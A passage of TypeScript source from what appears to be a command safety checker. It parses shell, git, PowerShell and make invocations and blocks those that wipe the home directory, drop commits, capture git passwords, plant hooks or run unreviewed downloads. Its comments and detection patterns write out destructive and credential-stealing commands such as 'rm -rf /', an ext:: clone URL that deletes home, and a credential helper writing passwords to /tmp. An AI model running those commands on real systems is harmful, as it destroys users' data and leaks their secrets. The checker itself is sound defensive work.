  for (const m of code.replace(/System\.user_home!?\(\)|\(expand-file-name\s+"~"\)|\(getenv\s+"HOME"\)|\(find-system-path\s+(?:'|\(quote\s+)home-dir\)?\)/g, '"~"').matchAll(/\((delete-directory\/files|delete-directory|delete-file)\s+"([^"]*)"(\s+t)?|File\.rm_rf!?\(\s*"([^"]*)"/g)) {
    const p = m[2] ?? m[4];
    if (!/^(~|\/|\.)(\/.*)?$/.test(p)) continue;
    checkDelete(walk, inv, target(inv, { text: p.replace(/^~(?=\/|$)/, walk.env.home), dynamic: false, glob: false, subs: [], quoted: true }), !!m[3] || !!m[4] || m[1] === 'delete-directory/files', `${inv.argv[0]} code`);
  }
  // System.cmd("rm", ["-rf", HOME]) (elixir), run(`rm -rf ~`) and the like: a program and its argument list.
  for (const m of code.replace(/System\.user_home!?\(\)|System\.get_env\(\s*"HOME"\s*\)/g, '"~"').matchAll(/\b\w+\(\s*"([\w.-]+)"\s*,\s*\[([^\]]*)\]/g)) {
    if (!HEADS.test(m[1])) continue;
    const line = [m[1], ...[...m[2].matchAll(/"([^"]*)"/g)].map((x) => x[1])].join(' ');
    collect(walk, line, inv.cwd, 1, true);
  }
  // Finder told to delete the home folder (or every item of it) through AppleScript.
  if (/\bdelete\s+(every\s+item\s+of\s+)?\(?\s*path\s+to\s+home\s+folder\b/i.test(code)) checkDelete(walk, inv, target(inv, { text: walk.env.home, dynamic: false, glob: false, subs: [], quoted: true }), true, `${inv.argv[0]} code (Finder)`);
  if (code.length > 20_000 || !/\b(rm|remove|rmtree|RemoveAll|rmdir|deleteDirectory|deleteRecursively|delete_recursive|remove_dir_all|removeItem|removeItemAtPath|removeItemAtPathError|Delete|rm_rf|deleteDir)\b/.test(code)) return;
  // The home and working directory by expression (os.UserHomeDir(), System.getProperty("user.home"), pwd()): code-places.ts's table.
  const norm = placesIn('compiled', code)
    // home, _ := os.UserHomeDir(); os.RemoveAll(home): a variable holding the path, put in.
    .replace(/\b(\w+)(?:\s*,\s*_)?\s*:?=\s*"(~|\.|\/[^"]*)"[\s\S]*/, (all, id: string, v: string) => all.replace(new RegExp(`\\(\\s*${id}\\s*\\)`, 'g'), `("${v}")`));
  // (Swift and Objective-C label the argument: removeItem(atPath: NSHomeDirectory()), removeItemAtPathError(…).)
  // new Directory(new java.io.File("~")).deleteRecursively(), Paths.get("~").toFile().deleteDir(): the receiver is the path.
  const receivers = [...norm.matchAll(/\b(?:Directory|File|Path|Paths\.get|Path\.of|file)\s*\(\s*(?:new\s+[\w.]*File\s*\(\s*)?(["'])([^"']*)\1\s*\)+(?:\s*\.\s*(?:toFile|toPath|toAbsolutePath)\s*\(\s*\))*\s*\.\s*(deleteRecursively|deleteDir|delete)\s*\(/g)].map((m) => [m[0], '', m[1], m[2]] as unknown as RegExpMatchArray);
  for (const m of [...norm.matchAll(/\b(rm|remove|rmtree|RemoveAll|rmdir|deleteDirectory|deleteRecursively|delete_recursive|remove_dir_all|removeItem|removeItemAtPath|removeItemAtPathError|Delete|rm_rf|deleteDir)\s*\(\s*(?:(?:atPath|at|path)\s*:\s*(?:URL\(\s*fileURLWithPath:\s*)?)?(?:new\s+[\w.]*File\()?(["'])([^"']*)\2/g), ...receivers]) {
    const p = m[3];
    if (!/^(~|\.)(\/.*)?$|^\//.test(p)) continue;
    const w: Word = { text: p.replace(/^~(?=\/|$)/, walk.env.home), dynamic: false, glob: false, subs: [], quoted: true };
    // (FileManager's removeItem removes a directory with everything in it.)
    // (MATLAB's and Octave's rmdir(P, 's') removes P with everything in it.)
    const rec = /RemoveAll|rmtree|recursive|Recursively|remove_dir_all|rm_rf|deleteDirectory|deleteDir|removeItem/.test(m.index === undefined ? m[0] : m[0] + norm.slice(m.index, m.index + 120)) || (m.index !== undefined && /^rmdir\s*\(\s*(['"])[^'"]*\1\s*,\s*['"]s['"]/.test(norm.slice(m.index)));
    checkDelete(walk, inv, target(inv, w), rec, `${inv.argv[0]} code`);
  }
  // foreach(d -> rm(d; recursive=true), readdir("/x"; join=true)) (julia), rmdir over dir('/x') with 's' (MATLAB): every entry of a listing, deleted with its tree.
  if (/recursive\s*=\s*(?:true|TRUE|T)\b|,\s*'s'\s*\)/.test(norm)) {
    for (const m of norm.matchAll(/\b(?:readdir|dir|ls|glob)\(\s*(["'])([~/][^"'*]*)\1/g)) {
      const w: Word = { text: m[2].replace(/^~(?=\/|$)/, walk.env.home), dynamic: false, glob: false, subs: [], quoted: true };
      checkDelete(walk, inv, { ...target(inv, w), wholeDir: true }, true, `${inv.argv[0]} code`);
    }
  }
}

/** Compilers and runners that run a source file: go run F, gcc F, javac/java F, rustc F, swift F, dotnet script F... */
const SOURCE_RUNNERS = /^(go|gcc|g\+\+|cc|clang|clang\+\+|tcc|rustc|javac|java|kotlinc|kotlin|swift|swiftc|dotnet|zig|nim|crystal|dart|julia|tclsh|elixir|scala|groovy|ghc|runghc|ocaml|fpc|gfortran|v|odin|cargo|deno|bun)$/;

/** A script that edits a rebase's todo list so that commits are dropped: `s/^pick/drop/`, `s/pick/d/`, `/pick/d`, `2,$d`. */
const DROPS_TODO = /\bpick\b[^'"]*\b(drop|d)\b|\/\s*d\b|(^|[\s'";])(\d+|\$)(,(\d+|\$))?\s*d\b/;

/**
 * GIT_SEQUENCE_EDITOR="sed -i 's/^pick/drop/'" git rebase -i --root (also `-c sequence.editor=`, an
 * exported or configured editor, GIT_EDITOR when no sequence editor is set): the todo list is edited by
 * a script that drops commits, so the branch's history is rewritten without them. On the default or a
 * protected branch, or from the root, that is history destroyed; elsewhere a warning, as reset --hard is.
 */
function scriptedRebase(walk: Walk, inv: Invocation): void {
  const ri = inv.argv.indexOf('rebase');
  if (ri < 1 || !inv.argv.slice(ri).some((a) => /^(-i|--interactive|-[a-zA-Z]*i[a-zA-Z]*)$/.test(a))) return;
  const editors = [
    ...(inv.assigned ?? []).filter((x) => /^(GIT_SEQUENCE_EDITOR|GIT_EDITOR|VISUAL|EDITOR)=/.test(x)).map((x) => x.slice(x.indexOf('=') + 1)),
    ...inv.argv.slice(1, ri).filter((x) => /^(sequence|core)\.editor=/i.test(x)).map((x) => x.slice(x.indexOf('=') + 1)),
    ...['GIT_SEQUENCE_EDITOR', 'GIT_EDITOR', 'VISUAL', 'EDITOR'].map((v) => walk.vars.get(v)?.text ?? ''),
    ...walk.gitConfig.filter((x) => /^(sequence|core)\.editor /i.test(x)).map((x) => x.slice(x.indexOf(' ') + 1)),
  ];
  const script = editors.find((e) => /^\s*(sed|gsed|perl|awk)\b/.test(e) && DROPS_TODO.test(e));
  if (!script) return;
  const ops = inv.argv.slice(ri + 1).filter((a) => !a.startsWith('-'));
  const branch = ops[1] ?? gitCurrentBranch(walk);
  if (inv.argv.includes('--root') || (branch !== null && isProtected(branch))) block(walk, 'dangerous', `git rebase with the todo list edited by \`${script.trim().slice(0, 60)}\` drops commits from ${inv.argv.includes('--root') ? 'the whole history of ' : ''}${branch ?? 'the branch'}: the history is rewritten without them`, 'drop commits by hand in an interactive rebase the user runs');
  else warn(walk, 'suspicious', `git rebase with the todo list edited by \`${script.trim().slice(0, 60)}\` drops commits from ${branch ?? 'the branch'}`);
}

/** git -c KEY=CMD and git config KEY CMD for the keys whose value git runs (core.pager, core.sshCommand, core.editor, core.fsmonitor, sequence.editor, diff.external, credential.helper '!…'). */
function gitConfigCommands(walk: Walk, inv: Invocation, depth: number): void {
  // git clone 'ext::sh -c rm% -rf% ~': the ext transport runs its command, split at spaces ("% " is a space inside a word).
  for (const a of inv.argv) {
    if (!a.startsWith('ext::')) continue;
    const words = a.slice(5).split(/(?<!%) +/).map((x) => x.replace(/%(.)/g, (_m, c: string) => (c === ' ' || c === '%' ? c : '')));
    collect(walk, words.map(shellWord).join(' '), inv.cwd, depth + 1, true);
  }
  scriptedRebase(walk, inv);
  // git rebase -x CMD, difftool -x CMD, clone --upload-pack CMD, filter-branch --tree-filter CMD (git-rules.ts
  // GIT_COMMAND_OPTIONS), git submodule foreach CMD, git bisect run CMD: git runs CMD through the shell.
  const a0 = inv.argv;
  const opts = GIT_COMMAND_OPTIONS.get(a0.find((a, k) => k > 0 && GIT_COMMAND_OPTIONS.has(a) && !/^-[cC]$/.test(a0[k - 1])) ?? '');
  for (let k = 2; opts && k < a0.length; k++) {
    const eq = a0[k].indexOf('=');
    if (opts.test(a0[k - 1]) && !a0[k - 1].includes('=')) collect(walk, a0[k], inv.cwd, depth + 1, true);
    else if (a0[k].startsWith('--') && eq > 0 && opts.test(a0[k].slice(0, eq))) collect(walk, a0[k].slice(eq + 1), inv.cwd, depth + 1, true);
  }
  const fe = a0.indexOf('foreach');
  if (a0.includes('submodule') && fe > 0) {
    const was = walk.submodule;
    // $toplevel is the superproject (rm -rf "$toplevel"/.git); $sm_path, $name, $sha1 stay unknown.
    const top = walk.vars.get('toplevel');
    walk.submodule = true;
    walk.vars.set('toplevel', { text: inv.cwd ?? walk.env.project, dynamic: false, subs: [] });
    collect(walk, a0.slice(fe + 1).filter((x) => !/^--(recursive|quiet)$/.test(x)).join(' '), inv.cwd, depth + 1, true);
    if (top) walk.vars.set('toplevel', top);
    else walk.vars.delete('toplevel');
    walk.submodule = was;
  }
  const br = a0.indexOf('run');
  if (a0.includes('bisect') && br > 0) collect(walk, a0.slice(br + 1).map(shellWord).join(' '), inv.cwd, depth + 1, true);
  const ci = inv.argv.indexOf('config');
  if (ci > 0) {
    const kv = inv.argv.slice(ci + 1).filter((a) => !a.startsWith('-'));
    if (kv.length >= 2) walk.gitConfig.push(`${kv[0]} ${kv.slice(1).join(' ')}`);
  }
  const keys = /^(core\.(pager|sshcommand|editor|fsmonitor|askpass|gitproxy)|sequence\.editor|diff\.external|credential\.helper|pager\.\w+|gpg\.program|uploadpack\.packobjectshook|filter\.[^.]+\.(clean|smudge|process)|diff\.[^.]+\.textconv)$/i;
  const a = inv.argv;
  for (let k = 1; k < a.length; k++) {
    let key: string | null = null;
    let value: string | undefined;
    if (a[k - 1] === '-c' && a[k].includes('=')) {
      key = a[k].slice(0, a[k].indexOf('='));
      value = a[k].slice(a[k].indexOf('=') + 1);
    } else if (a.includes('config') && (keys.test(a[k]) || /^core\.hookspath$|^include(if\.[^]*)?\.path$|^credential\..+\.helper$/i.test(a[k])) && a[k + 1] !== undefined && !a[k + 1].startsWith('-')) {
      key = a[k];
      value = a[k + 1];
    }
    if (key && value && keys.test(key) && !/^core\.hookspath$/i.test(key)) collect(walk, value.replace(/^!/, ''), inv.cwd, depth + 1, true);
    // credential.helper '!f() { cat >> /tmp/c; }; f': a helper that stores or sends what git gives it is given every password from now on.
    if (key && value && /^credential(\..+)?\.helper$/i.test(key) && /^!/.test(value) && /(^|[^>])>>?\s*[^&\s]|\btee\b|\b(curl|wget|nc|ncat|socat|ssh|scp)\b/.test(value)) block(walk, 'dangerous', `git config ${key} runs \`${value.slice(1, 70)}\`, which keeps or sends the passwords git hands it: every later login is captured`, 'use a credential helper of the platform (osxkeychain, libsecret, manager) or gh auth setup-git');
    // include.path of a temp file: its settings (hooks, pagers, aliases) nobody sees.
    if (key && value && /^include(if\..*)?\.path$/i.test(key) && /^(\/tmp|\/var\/tmp|\/dev\/shm)(\/|$)/.test(value) && !isUnder(value, walk.env.home)) block(walk, 'dangerous', `git config ${key} ${value} loads settings from a temporary file into every git command`, 'put the settings in the repository\'s own config, where they can be read');
    // core.hooksPath somewhere outside the project (a temp dir, a download): hooks from there run in every repository.
    if (key && value && /^core\.hookspath$/i.test(key) && /^(\/tmp|\/var\/tmp|\/dev\/shm)(\/|$)|^https?:/.test(value)) {
      block(walk, 'dangerous', `git config ${key} ${value}: hooks from there would run in every git command of the user`, 'keep hooks in the repository (.githooks) and set core.hooksPath to it only there');
    }
  }
}

/** source <(echo '…') / bash <(printf …): a process substitution whose output is known is the script run. */
/**
 * make -f - (or /dev/stdin, or <(printf …)) given its makefile on the line: each recipe line (a tab, or the
 * .RECIPEPREFIX character, in front) is a command it runs, $$ being $. True when the makefile came from the line.
 */
function makeRecipes(walk: Walk, inv: Invocation, depth: number): boolean {
  const k = inv.argv.findIndex((a, j) => j > 0 && /^(-f|--file|--makefile)$/.test(inv.argv[j - 1] ?? ''));
  const w = k > 0 ? inv.words[k] : inv.words.find((x) => /^-[a-zA-Z]*f-$/.test(x.text));
  if (!w) return false;
  const text = /^(-|\/dev\/stdin|\/dev\/fd\/0|-[a-zA-Z]*f-)$/.test(w.text) ? stdinText(inv) : w.subs.length > 0 ? resolveSubstitution(w.subs[0], parseEnv(walk, inv.cwd)) : null;
  if (text === null) return w.text === '-';
  const prefix = /^\.RECIPEPREFIX\s*:?=\s*(\S)/m.exec(text)?.[1] ?? '\t';
  for (const line of text.split('\n')) if (line.startsWith(prefix)) collect(walk, line.slice(prefix.length).replace(/^[@+-]+/, '').replace(/\$\$/g, '$').replace(/\$[({]HOME[)}]/g, '$HOME'), inv.cwd, depth + 1, true);
  return true;
}

/** The secret an app console's code holds (artisan tinker --execute="echo config('app.key');"), or null. */
function codeSecretOf(fc: FrameworkCode | null): string | null {
  return fc ? framework().codeSecret(fc.code, isSecretName) : null;
}

/** The text a process substitution operand (<(echo …)) gives, when known. */
function procSubText(walk: Walk, inv: Invocation): string | null {
  const w = inv.words.slice(1).find((x) => x.text.startsWith('/dev/fd/') && x.subs.length > 0);
  if (!w) return null;
  // <(echo '<?php …'): the quoted text itself, whatever it holds.
  const echoed = /^\s*(?:echo|printf\s+'%s\\n')\s+'([^']*)'\s*$/.exec(w.subs[0]);
  return echoed ? echoed[1] : resolveSubstitution(w.subs[0], parseEnv(walk, inv.cwd));
}

function procSubScript(walk: Walk, inv: Invocation, depth: number): void {
  const w = inv.words.slice(1).find((x) => x.text.startsWith('/dev/fd/') && x.subs.length > 0);
  if (!w) return;
  const out = resolveSubstitution(w.subs[0], parseEnv(walk, inv.cwd));
  if (out !== null) collect(walk, out, inv.cwd, depth + 1, true);
}

/** The command line `tmux new[-session|-window] … CMD`, `screen -dm … CMD`, `ssh [opts] HOST CMD` run. */
function detachedScript(argv: string[]): string | null {
  const name = argv[0];
  let i = 1;
  if (name === 'tmux') {
    while (i < argv.length && argv[i].startsWith('-')) i += /^-[LSf]$/.test(argv[i]) ? 2 : 1;
    if (!/^(new|new-session|new-window|neww|split-window|splitw|respawn-pane|send-keys|send)$/.test(argv[i] ?? '')) return null;
    const send = /^send/.test(argv[i]);
    for (i++; i < argv.length && argv[i].startsWith('-'); ) i += /^-[stncxyFeEc]$/.test(argv[i]) ? 2 : 1;
    const rest = argv.slice(i).filter((a) => !(send && /^(Enter|C-m)$/.test(a)));
    return rest.length > 0 ? rest.join(' ') : null;
  }
  if (name === 'screen') {
    while (i < argv.length && argv[i].startsWith('-')) i += /^-[a-zA-Z]*[SctpLlhx]$/.test(argv[i]) ? 2 : 1; // -dmS NAME
    return i < argv.length ? argv.slice(i).map((a) => (/[\s'"]/.test(a) ? `'${a.replace(/'/g, `'\\''`)}'` : a)).join(' ') : null;
  }
  // ssh: options with values, then the host, then the remote command.
  while (i < argv.length && argv[i].startsWith('-')) i += /^-[bcDEeFIiJLlmOoPpQRSWw]$/.test(argv[i]) ? 2 : 1;
  return i + 1 < argv.length ? argv.slice(i + 1).join(' ') : null;
}

/**
 * The script `pwsh`/`powershell` runs: `-Command TEXT` (any prefix: `-c`, `-com`), `-EncodedCommand B64`
 * (`-e`, `-ec`, `-enc`: UTF-16LE, as about_Pwsh documents), `-Command -` from stdin, `-File F` written
 * on the line, or (powershell.exe's default) the words after its options.
 */
function powershellScript(walk: Walk, inv: Invocation): string | null {
  const argv = inv.argv;
  for (let i = 1; i < argv.length; i++) {
    const a = argv[i].toLowerCase();
    if (a === '/c' || (/^-c[a-z]*$/.test(a) && 'command'.startsWith(a.slice(1)))) return argv[i + 1] === '-' ? stdinText(inv) : argv.slice(i + 1).join(' ');
    if (/^-e[a-z]*$/.test(a) && ('encodedcommand'.startsWith(a.slice(1)) || a === '-ec')) return Buffer.from(argv[i + 1] ?? '', 'base64').toString('utf16le');
    if (/^-f[a-z]*$/.test(a) && 'file'.startsWith(a.slice(1))) {
      const f = argv[i + 1];
      if (f === '-') return stdinText(inv);
      return f !== undefined && inv.cwd !== null ? walk.files.get(resolveFrom(inv.cwd, f))?.content ?? null : null;
    }
    if (a === '-') return stdinText(inv);
    // Options that take a value: -ExecutionPolicy, -WindowStyle, -InputFormat, -OutputFormat, -WorkingDirectory...
    if (/^-(ex|ep|executionpolicy|w|win|windowstyle|if|inputformat|of|outputformat|wd|workingdirectory|configurationname|version|settingsfile|psconsolefile|custompipename)$/.test(a)) i++;
    else if (!a.startsWith('-')) return /^powershell$/i.test(base(argv[0])) ? argv.slice(i).join(' ') : null;
  }
  return null;
}

/** The first operand of a shell or interpreter: the script file it runs. */
function scriptOperand(argv: string[]): string | null {
  for (let i = 1; i < argv.length; i++) {
    const a = argv[i];
    if (a === '-m') return null;
    if (a.startsWith('-')) continue;
    return a;
  }
  return null;
}

/** `echo 'rm -rf /' > x.sh`, `curl -o x.sh URL`: what the line writes into files it may run next. */
function recordWrittenFiles(walk: Walk, inv: Invocation): void {
  if (inv.cwd === null) return;
  const name = inv.argv[0];
  // Secrets copied into other files stay secrets.
  // (Any command given a secret operand, not only cp/tar/zip: python -m zipfile -c OUT ~/.ssh, rsync, 7z, age…)
  const valueOpts = new Set(['-e', '--rsh', '-i', '-o', '-f', '-C', '-T', '-X', '-t', '-S', '-m', '--exclude', '--include', '-p', '-P', '-F', '-J', '-l', '--password-file']);
  if (producesSecret(walk, inv) !== null || operands(inv.words, valueOpts).some((w) => isSecret(walk, target(inv, w).abs) || (/^(tar|zip|7z|rsync|cp)$/.test(name) && holdsSecrets(walk, target(inv, w).abs)))) {
    // python3 -m zipfile|tarfile -c OUT SRC…: OUT holds them.
    const mi = inv.argv.indexOf('-m');
    const mc = mi > 0 && /^(zipfile|tarfile)$/.test(inv.argv[mi + 1] ?? '') ? inv.argv.indexOf('-c', mi) : -1;
    if (mc > 0 && inv.words[mc + 1] && !inv.words[mc + 1].dynamic) walk.secretFiles.add(resolveFrom(inv.cwd, inv.words[mc + 1].text));
    for (const r of inv.redirects) if (['>', '>>', '>|', '&>'].includes(r.op) && !r.target.dynamic) walk.secretFiles.add(resolveFrom(inv.cwd, r.target.text));
    const ops = operands(inv.words, new Set(['-C', '-T', '-X']));
    const fIdx = inv.argv.findIndex((a, k) => k > 0 && (/^-[a-zA-Z]*f$/.test(a) || a === '--file' || (k === 1 && name === 'tar' && /^[a-zA-Z]*f$/.test(a))));
    const zipOps = name === 'zip' ? operands(inv.words, new Set(['-P', '--password', '-b', '-n', '-t', '-tt', '-x', '-i', '-O', '--out'])) : ops;
    const out = name === 'tar' && fIdx > 0 ? inv.words[fIdx + 1] : name === 'zip' || name === '7z' ? zipOps.find((w) => !['a'].includes(w.text)) : /^(cp|rsync|install|ditto)$/.test(name) ? ops[ops.length - 1] : undefined;
    if (out && !out.dynamic && out.text !== '-') walk.secretFiles.add(resolveFrom(inv.cwd, out.text));
    // openssl enc -in SECRET -out FILE, gpg -o FILE, base64 SECRET -o FILE: the output holds the secret.
    inv.words.forEach((w, k) => {
      const next = inv.words[k + 1];
      if (['-out', '-o', '--output'].includes(w.text) && next && !next.dynamic && next.text !== '-') walk.secretFiles.add(resolveFrom(inv.cwd!, next.text));
    });
    // airflow connections export FILE, doppler secrets download FILE: a tool's secrets exported into the file it is given.
    const exported = /\b(export|download|dump|pull)\b/.test(inv.argv.slice(1, 4).join(' ')) && printsCredential(inv.argv) !== null ? operands(inv.words).filter((w) => /[/.]/.test(w.text) && !w.dynamic && !w.text.startsWith('/dev/')).pop() : undefined;
    if (exported) walk.secretFiles.add(resolveFrom(inv.cwd, exported.text));
    // split SECRET PREFIX writes PREFIXaa, PREFIXab...: each piece holds part of it.
    if (name === 'split') walk.secretFiles.add(`${resolveFrom(inv.cwd, operands(inv.words, new Set(['-b', '-l', '-n', '-C', '-a', '-t', '--additional-suffix']))[1]?.text ?? 'x')}*`);
    // gpg -c FILE writes FILE.gpg.
    if (name === 'gpg') for (const w of ops) if (isSecret(walk, target(inv, w).abs)) walk.secretFiles.add(`${target(inv, w).abs}.gpg`);
  }
  for (const r of inv.redirects) {
    if (!['>', '>>', '>|'].includes(r.op) || r.target.dynamic) continue;
    const abs = resolveFrom(inv.cwd, r.target.text);
    let content: string | null = null;
    if ((name === 'echo' || name === 'printf') && !inv.words.some((w) => w.dynamic)) {
      const args = inv.argv.slice(1).filter((a, k) => !(k === 0 && /^-[neE]+$/.test(a)));
      content = name === 'printf' ? printfFormat(args[0] ?? '', args.slice(1)) : args.join(' ');
    } else if (name === 'cat') content = inv.redirects.find((x) => x.body !== undefined)?.body ?? stdinText(inv);
    // echo CODE | sed '1i import shutil' > t.py: a filter of known text writes that text and the lines it adds.
    else if (/^(sed|[gm]?awk|tr|tee)$/.test(name) && stdinText(inv) !== null) content = [...generatorLines(walk, inv).map((l) => l.split(ITEM).join('')), stdinText(inv)].join('\n');
    const downloaded = DOWNLOADERS.has(name) ? name : null;
    if (content !== null || downloaded) walk.files.set(abs, { content, downloaded });
    checkAutoRun(walk, inv, abs, content, downloaded);
  }
  // tar czf s.tgz ., zip -r s.zip ., git bundle create b --all, git archive -o a.zip HEAD: the whole project in one file.
  const whole = (w: Word) => !w.dynamic && isUnder(walk.env.project, resolveFrom(inv.cwd!, w.text));
  const tarOut = name === 'tar' && /c/.test(inv.argv[1] ?? '') ? inv.words[inv.argv.findIndex((a, k) => k > 0 && /^-?[a-zA-Z]*f$/.test(a)) + 1] : undefined;
  if (tarOut && operands(inv.words, new Set(['-C'])).some((w) => w !== tarOut && w !== inv.words[1] && whole(w))) walk.projectCopies.add(resolveFrom(inv.cwd, tarOut.text));
  if (name === 'zip' && inv.argv.some((a) => /^-[a-zA-Z]*r/.test(a))) {
    const zo = operands(inv.words, new Set(['-P', '--password', '-x', '-i']));
    if (zo.length > 1 && zo.slice(1).some(whole)) walk.projectCopies.add(resolveFrom(inv.cwd, zo[0].text));
  }
  if (name === 'git' && ((inv.argv[1] === 'bundle' && inv.argv[2] === 'create' && inv.argv.includes('--all')) || inv.argv[1] === 'archive')) {
    const out = inv.argv[1] === 'bundle' ? inv.words[3] : inv.words[inv.argv.findIndex((a) => a === '-o' || a === '--output') + 1];
    if (out && inv.argv.findIndex((a) => a === '-o' || a === '--output') !== -1 || inv.argv[1] === 'bundle') if (out) walk.projectCopies.add(resolveFrom(inv.cwd, out.text.replace(/^--output=/, '')));
  }
  // tee FILE <<< TEXT, cp /dev/stdin FILE, dd of=FILE, sponge FILE: FILE holds what comes in on stdin.
  const STDIN = /^(-|\/dev\/(stdin|fd\/0)|\/proc\/self\/fd\/0)$/;
  const ops = /^(tee|sponge|cp|install)$/.test(name) ? operands(inv.words) : [];
  const sinks = /^(tee|sponge)$/.test(name) ? ops : /^(cp|install)$/.test(name) && ops.length === 2 && STDIN.test(ops[0].text) ? [ops[1]] : name === 'dd' && !inv.argv.some((a) => /^if=/.test(a) && !STDIN.test(a.slice(3))) ? inv.words.filter((w) => /^of=/.test(w.text)).map((w) => ({ ...w, text: w.text.slice(3) })) : [];
  const piped = sinks.length > 0 ? stdinText(inv) : null;
  if (piped !== null) for (const w of sinks) if (!w.dynamic) {
    walk.files.set(resolveFrom(inv.cwd, w.text), { content: piped, downloaded: null });
    checkAutoRun(walk, inv, resolveFrom(inv.cwd, w.text), piped, null);
  }
  // An archive the line downloaded, unpacked: what it holds is as unreviewed as the download (its scripts run later on the line are refused).
  if ((name === 'tar' && inv.argv.some((a, k) => k > 0 && (/^-?[a-zA-Z]*x/.test(a) || a === '--extract'))) || name === 'unzip' || name === 'bsdtar' || (name === '7z' && inv.argv[1] === 'x')) {
    const k = inv.argv.findIndex((a) => a === '-C' || a === '--directory' || a === '-d' || a.startsWith('--directory='));
    const dir = k > 0 ? (inv.argv[k].includes('=') ? inv.argv[k].split('=')[1] : inv.argv[k + 1]) : null;
    const into = dir ? resolveFrom(inv.cwd, dir.replace(/^~(?=\/|$)/, walk.env.home)) : inv.cwd;
    const archive = inv.words.slice(1).some((w) => !w.dynamic && walk.files.get(resolveFrom(inv.cwd!, w.text))?.downloaded);
    if (archive || inv.upstream.some((u) => fetches(walk, u) !== null)) walk.unpacked.push(into);
  }
  // find ~ > /tmp/l, find … -fprint /tmp/l, du -a ~ > l: the file holds a list of paths that xargs may read back.
  if (name === 'find' || listerRoots(walk, inv)) {
    for (const r of inv.redirects) if (/^>>?$/.test(r.op) && !r.target.dynamic) walk.listFiles.set(resolveFrom(inv.cwd, r.target.text), inv);
    const fp = inv.argv.findIndex((a) => a === '-fprint' || a === '-fprint0');
    if (name === 'find' && fp > 0 && inv.words[fp + 1]) walk.listFiles.set(resolveFrom(inv.cwd, inv.words[fp + 1].text), inv);
  }
  // ln -s SECRET LINK: the link reads as the secret.
  if (name === 'ln') {
    const ops = operands(inv.words, new Set(['-t', '-S', '--suffix', '--target-directory']));
    if (ops.length >= 2 && isSecret(walk, target(inv, ops[0]).abs) && !ops[ops.length - 1].dynamic) walk.secretFiles.add(resolveFrom(inv.cwd, ops[ops.length - 1].text));
  }
  // git clone URL [DIR]: the clone is a download; a script of it run later on the line is unreviewed code.
  if (name === 'git' && inv.argv.includes('clone')) {
    const ops = inv.words.slice(inv.argv.indexOf('clone') + 1).filter((w, k, all) => !w.text.startsWith('-') && !/^(-b|--branch|--depth|-o|--origin|-c|--config|--reference|--filter|--template|-j|--jobs)$/.test(all[k - 1]?.text ?? ''));
    const url = ops[0]?.text ?? '';
    const dir = ops[1]?.text ?? url.replace(/\/+$/, '').replace(/\.git$/, '').split(/[/:]/).pop() ?? '';
    if (url && dir && !ops[1]?.dynamic) walk.unpacked.push(resolveFrom(inv.cwd, dir.replace(/^~(?=\/|$)/, walk.env.home)));
  }
  // curl URL | tee FILE (or sudo tee): FILE holds the download.
  if (name === 'tee' && inv.upstream.some((u) => fetches(walk, u) !== null)) {
    for (const w of operands(inv.words)) if (!w.dynamic) walk.files.set(resolveFrom(inv.cwd, w.text), { content: null, downloaded: inv.upstream.map((u) => fetches(walk, u)).find((x) => x !== null)! });
  }
  if (DOWNLOADERS.has(name)) for (const w of downloadOutputs(inv)) if (!w.dynamic) {
    walk.files.set(resolveFrom(inv.cwd, w.text), { content: null, downloaded: name });
    checkAutoRun(walk, inv, resolveFrom(inv.cwd, w.text), null, name);
  }
}

/**
 * The files a download writes: curl -o FILE (also in a cluster, -fsSLo FILE, and --output=FILE), -O
 * (the URL's last segment here, --output-dir DIR); wget -O FILE (-qO FILE, --output-document=FILE),
 * otherwise the URL's last segment in -P DIR; aria2c -o NAME in -d DIR.
 */
function downloadOutputs(inv: Invocation): Word[] {
  const name = inv.argv[0];
  const w = inv.words;
  const out: Word[] = [];
  const url = w.find((x) => /^[a-z][a-z0-9+.-]*:\/\/[^/]+\/[^?#]*[^/?#]$/i.test(x.text));
  const urlName = url ? url.text.replace(/[?#].*$/, '').split('/').pop()! : null;
  let dir: Word | null = null;
  let remoteName = false;
  let explicit = false;
  const fileOpt = name === 'curl' ? /^-[a-zA-Z]*o$|^--output$/ : name === 'wget' ? /^-[a-zA-Z]*O$|^--output-document$/ : /^-o$|^--out$/;
  const dirOpt = name === 'curl' ? /^--output-dir$/ : name === 'wget' ? /^-[a-zA-Z]*P$|^--directory-prefix$/ : /^-d$|^--dir$/;
  for (let k = 1; k < w.length; k++) {
    const t = w[k].text;
    const eq = /^--(output|output-document|out|output-dir|directory-prefix|dir)=(.+)$/.exec(t);
    if (fileOpt.test(t) && w[k + 1]) {
      explicit = true;
      if (w[k + 1].text !== '-') out.push(w[k + 1]);
      k++;
    } else if (dirOpt.test(t) && w[k + 1]) dir = w[++k];
    else if (eq && /^(output|output-document|out)$/.test(eq[1])) {
      explicit = true;
      if (eq[2] !== '-') out.push({ ...w[k], text: eq[2] });
    } else if (eq) dir = { ...w[k], text: eq[2] };
    else if (name === 'curl' && /^-[a-zA-Z]*O[a-zA-Z]*$|^--remote-name$/.test(t)) remoteName = true;
  }
  if (name === 'curl' && !remoteName && !explicit) return out;
  const named = (n: string) => (dir ? { ...dir, text: `${dir.text.replace(/\/$/, '')}/${n}` } : { ...(url ?? w[0]), text: n, dynamic: false });
  if (name === 'aria2c' || (name !== 'curl' && dir)) return out.map((o) => (dir && !o.text.startsWith('/') ? named(o.text) : o)).concat(!explicit && urlName && name !== 'aria2c' ? [named(urlName)] : []);
  if ((name === 'curl' && remoteName) || (name === 'wget' && !explicit)) if (urlName) out.push(named(urlName));
  return out;
}

/** Files git runs by itself (.git/hooks/*): what is written there is checked as the script it becomes; a download there is refused. */
function checkAutoRun(walk: Walk, inv: Invocation, abs: string, content: string | null, downloaded: string | null): void {
  // git hooks (also husky's), and direnv's .envrc (run by the shell on entering the directory).
  if (!/\/\.git\/hooks\/[^/]+$|\/\.husky\/[^/_][^/]*$|\/\.envrc$/.test(abs) || /\.sample$/.test(abs)) return;
  if (downloaded) block(walk, 'dangerous', `${downloaded} writes a download into the git hook ${abs}: git would run it on its own`, 'download it, read it, then install the hook');
  else if (content !== null) collect(walk, content, inv.cwd, 1, true);
}

/** Runs a file the same line wrote: its text is checked as a script; a fresh download is refused. */
function runScriptFile(walk: Walk, inv: Invocation, file: string | null, depth: number, lang: ReturnType<typeof langOf>): void {
  if (!file || inv.cwd === null) return;
  const abs = resolveFrom(inv.cwd, file.replace(/^~(?=\/|$)/, walk.env.home));
  if (inv.argv[0] !== file && walk.unpacked.some((d) => isUnder(abs, d))) {
    block(walk, 'dangerous', `${inv.argv[0]} runs ${file} from an archive downloaded on the same line: unreviewed code`, 'download and unpack first, read the script, then run it in a separate step');
  }
